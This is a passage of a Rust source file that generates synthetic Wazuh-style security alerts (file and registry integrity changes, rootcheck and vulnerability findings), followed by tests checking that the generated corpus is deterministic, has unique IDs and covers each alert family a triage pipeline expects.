            "utcTime": self.utc().format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        });
        let mut e = Map::new();
        e.insert("decoder".into(), json!({"name": "windows_eventchannel"}));
        e.insert(
            "data".into(),
            json!({"win": {"system": system, "eventdata": eventdata}}),
        );
        e.insert("location".into(), json!("EventChannel"));
        (rule, e)
    }

    fn fim_file(
        &mut self,
        id: &str,
        level: i64,
        desc: &str,
        event: &str,
    ) -> (Value, Map<String, Value>) {
        let windows = self.agent.os == Os::Windows;
        let path = if windows {
            self.pick(&[
                r"c:\windows\system32\drivers\etc\hosts",
                r"c:\program files\app\config.ini",
                r"c:\users\public\run.bat",
            ])
            .to_string()
        } else {
            self.pick(&[
                "/etc/hosts",
                "/etc/passwd",
                "/etc/ssh/sshd_config",
                "/usr/bin/curl",
                "/etc/crontab",
                "/tmp/.x/payload.sh",
            ])
            .to_string()
        };
        let mode = self.pick(&["scheduled", "realtime", "whodata"]);
        let mut rule = self.rule(
            id,
            level,
            desc,
            &[
                "ossec",
                "syscheck",
                &format!("syscheck_entry_{event}"),
                "syscheck_file",
            ],
        );
        rule["mitre"] = mitre(("T1565.001", "Impact", "Stored Data Manipulation"));
        rule["pci_dss"] = json!(["11.5"]);
        let mut sc = Map::new();
        sc.insert("path".into(), json!(path));
        sc.insert("mode".into(), json!(mode));
        sc.insert("event".into(), json!(event));
        let (md5a, sha1a, sha256a) = (self.hex(32), self.hex(40), self.hex(64));
        let mut full = format!("File '{path}' {event}\nMode: {mode}\n");
        if event != "deleted" {
            let size = self.rng.gen_range(10..90_000);
            sc.insert("size_after".into(), json!(size.to_string()));
            sc.insert("md5_after".into(), json!(md5a));
            sc.insert("sha1_after".into(), json!(sha1a));
            sc.insert("sha256_after".into(), json!(sha256a));
            sc.insert(
                "perm_after".into(),
                json!(if windows { "" } else { "rw-r--r--" }),
            );
            sc.insert(
                "uname_after".into(),
                json!(if windows { "Administrators" } else { "root" }),
            );
        }
        if event == "modified" {
            let (md5b, sha1b, sha256b) = (self.hex(32), self.hex(40), self.hex(64));
            full.push_str(&format!("Changed attributes: size,mtime,md5,sha1,sha256\nOld md5sum was: '{md5b}'\nNew md5sum is : '{md5a}'\nOld sha1sum was: '{sha1b}'\nNew sha1sum is : '{sha1a}'\nOld sha256sum was: '{sha256b}'\nNew sha256sum is : '{sha256a}'\n"));
            sc.insert("md5_before".into(), json!(md5b));
            sc.insert("sha1_before".into(), json!(sha1b));
            sc.insert("sha256_before".into(), json!(sha256b));
            sc.insert(
                "size_before".into(),
                json!(self.rng.gen_range(10..90_000).to_string()),
            );
            sc.insert(
                "changed_attributes".into(),
                json!(["size", "mtime", "md5", "sha1", "sha256"]),
            );
        }
        if mode == "whodata" {
            let user = if windows {
                "Administrator"
            } else {
                self.pick(&USERS)
            };
            let proc_name = if windows {
                r"C:\Windows\System32\notepad.exe"
            } else {
                "/usr/bin/nano"
            };
            sc.insert("audit".into(), json!({"user": {"id": "1000", "name": user}, "process": {"id": self.rng.gen_range(300..40_000).to_string(), "name": proc_name}}));
        }
        let mut e = Map::new();
        e.insert("full_log".into(), json!(full));
        e.insert("syscheck".into(), Value::Object(sc));
        e.insert(
            "decoder".into(),
            json!({"name": "syscheck_integrity_changed"}),
        );
        e.insert("location".into(), json!("syscheck"));
        (rule, e)
    }

    fn fim_registry(&mut self, value: bool) -> (Value, Map<String, Value>) {
        let key = self.pick(&[
            r"HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services\W32Time\SecureTimeLimits",
            r"HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run",
            r"HKEY_LOCAL_MACHINE\System\CurrentControlSet\Services\bam\State\UserSettings",
        ]);
        let arch = self.pick(&["[x32]", "[x64]"]);
        let (id, level, desc, decoder) = if value {
            (
                "750",
                5,
                "Registry Value Integrity Checksum Changed",
                "syscheck_registry_value_modified",
            )
        } else {
            (
                "594",
                5,
                "Registry Key Integrity Checksum Changed",
                "syscheck_registry_key_modified",
            )
        };
        let mut rule = self.rule(
            id,
            level,
            desc,
            &[
                "ossec",
                "syscheck",
                "syscheck_entry_modified",
                "syscheck_registry",
            ],
        );
        rule["mitre"] = mitre(("T1112", "Defense Evasion", "Modify Registry"));
        let (md5a, md5b, sha1a, sha1b, sha256a, sha256b) = (
            self.hex(32),
            self.hex(32),
            self.hex(40),
            self.hex(40),
            self.hex(64),
            self.hex(64),
        );
        let mut sc = json!({
            "arch": arch, "path": key, "event": "modified", "mode": "scheduled",
            "md5_after": md5a, "md5_before": md5b, "sha1_after": sha1a, "sha1_before": sha1b,
            "sha256_after": sha256a, "sha256_before": sha256b,
            "changed_attributes": ["md5", "sha1", "sha256"],
        });
        let full = if value {
            let name = self.pick(&[
                "SecureTimeLow",
                "SecureTimeHigh",
                "OneDriveUpdate",
                "SecurityHealth",
            ]);
            sc["value_name"] = json!(name);
            sc["value_type"] = json!(if name.starts_with("Secure") {
                "REG_QWORD"
            } else {
                "REG_SZ"
            });
            sc["size_after"] = json!("8");
            format!("Registry Value '{arch} {key}\\{name}' modified\nMode: scheduled\nChanged attributes: md5,sha1,sha256\nOld md5sum was: '{md5b}'\nNew md5sum is : '{md5a}'\n")
        } else {
            format!("Registry Key '{arch} {key}' modified\nMode: scheduled\nChanged attributes: mtime\n")
        };
        let mut e = Map::new();
        e.insert("full_log".into(), json!(full));
        e.insert("syscheck".into(), sc);
        e.insert("decoder".into(), json!({"name": decoder}));
        e.insert("location".into(), json!("syscheck"));
        (rule, e)
    }

    fn rootcheck(&mut self, full: String, data: Value) -> (Value, Map<String, Value>) {
        let mut rule = self.rule(
            "510",
            7,
            "Host-based anomaly detection event (rootcheck).",
            &["ossec", "rootcheck"],
        );
        rule["pci_dss"] = json!(["10.6.1"]);
        rule["gdpr"] = json!(["IV_35.7.d"]);
        let mut e = Map::new();
        e.insert("full_log".into(), json!(full));
        e.insert("decoder".into(), json!({"name": "rootcheck"}));
        e.insert("data".into(), data);
        e.insert("location".into(), json!("rootcheck"));
        (rule, e)
    }

    fn vuln(&mut self, sev: u8) -> (Value, Map<String, Value>) {
        let (id, level, severity, status) = match sev {
            2 => ("23502", 3, "High", "Solved"),
            3 => ("23503", 5, "Low", "Active"),
            4 => ("23504", 7, "Medium", "Active"),
            5 => ("23505", 10, "High", "Active"),
            _ => ("23506", 13, "Critical", "Active"),
        };
        let (pkg, version, fixed) = self.pick(&[
            ("openssl", "3.0.2-0ubuntu1.10", "3.0.2-0ubuntu1.12"),
            ("Mozilla Thunderbird 68.0 (x64 en-US)", "68.0", "68.8.0"),
            ("sudo", "1.8.31-1ubuntu1", "1.8.31-1ubuntu1.5"),
            ("libwebp", "1.2.4-0.2", "1.2.4-0.2+deb12u1"),
            ("curl", "7.81.0-1ubuntu1.13", "7.81.0-1ubuntu1.14"),
        ]);
        let cve = format!(
            "CVE-{}-{}",
            self.rng.gen_range(2019..2026),
            self.rng.gen_range(1000..49_999)
        );
        let score = match severity {
            "Low" => "3.3",
            "Medium" => "5.9",
            "High" => "7.8",
            _ => "9.8",
        };
        let desc = if status == "Solved" {
            format!("The CVE {cve} that affected {pkg} was solved due to a package removal/update or a system upgrade")
        } else {
            format!("{cve} affects {pkg}")
        };
        let rule = self.rule(id, level, &desc, &["vulnerability-detector"]);
        let mut e = Map::new();
        e.insert("decoder".into(), json!({"name": "json"}));
        e.insert("data".into(), json!({"vulnerability": {
            "cve": cve,
            "severity": severity,
            "status": status,
            "package": {"name": pkg, "version": version, "condition": format!("Package less than {fixed}")},
            "cvss": {"cvss3": {"base_score": score}},
            "published": "2024-05-26T00:00:00Z",
            "references": [format!("https://nvd.nist.gov/vuln/detail/{cve}")],
            "title": desc,
        }}));
        e.insert("location".into(), json!("vulnerability-detector"));
        (rule, e)
    }
}

fn mitre((id, tactic, technique): (&str, &str, &str)) -> Value {
    json!({"id": [id], "tactic": [tactic], "technique": [technique]})
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    fn end() -> DateTime<Utc> {
        DateTime::parse_from_rfc3339("2025-09-12T09:00:00Z")
            .unwrap()
            .with_timezone(&Utc)
    }

    #[test]
    fn generation_is_deterministic_for_seed_and_end_time() {
        let a = generate(300, 7, end());
        let b = generate(300, 7, end());
        let c = generate(300, 8, end());
        let key = |v: &[RawDoc]| {
            v.iter()
                .map(|d| format!("{}|{}|{}", d.index, d.id, d.source))
                .collect::<Vec<_>>()
        };
        assert_eq!(key(&a), key(&b));
        assert_ne!(key(&a), key(&c));
    }

    #[test]
    fn alert_ids_are_unique_per_manager_and_levels_are_wazuh_like() {
        let docs = generate(20_000, 3, end());
        let mut seen = HashSet::new();
        let mut high = 0;
        let mut critical = 0;
        for d in &docs {
            let m = d.source["manager"]["name"].as_str().unwrap();
            let id = d.source["id"].as_str().unwrap();
            assert!(
                seen.insert((m.to_string(), id.to_string())),
                "duplicate {m} {id}"
            );
            let level = d.source["rule"]["level"].as_i64().unwrap();
            high += usize::from(level >= 12);
            critical += usize::from(level >= 15);
            let ts = d.source["timestamp"].as_str().unwrap();
            assert!(
                ts.ends_with("+0000")
                    || ts.ends_with("-0300")
                    || ts.ends_with("+0530")
                    || ts.ends_with("+1100"),
                "{ts}"
            );
        }
        let share = high as f64 / docs.len() as f64;
        assert!((0.02..0.033).contains(&share), "high share {share}");
        assert!(critical > 0 && critical < 60, "critical {critical}");
    }

    #[test]
    fn corpus_has_every_family_the_pipeline_triages() {
        let docs = generate(5_000, 11, end());
        let rules: HashSet<&str> = docs
            .iter()
            .map(|d| d.source["rule"]["id"].as_str().unwrap())
            .collect();
        for r in [
            "550", "750", "594", "510", "92151", "92027", "5712", "5501", "5402", "60106", "23506",
            "31103",
        ] {
            assert!(rules.contains(r), "no rule {r}");
        }
        let busybox_fp = docs.iter().any(|d| {
            d.source["rule"]["id"] == "510"
                && d.source["data"]["title"]
                    .as_str()
                    .is_some_and(|t| t.contains("Trojaned version of file"))
        });
        assert!(busybox_fp);
        let type5 = docs.iter().any(|d| {
            d.source["data"]["win"]["eventdata"]["logonType"] == "5"
                && d.source["data"]["win"]["eventdata"]["targetUserName"] == "SYSTEM"
        });
        assert!(type5);
    }
}
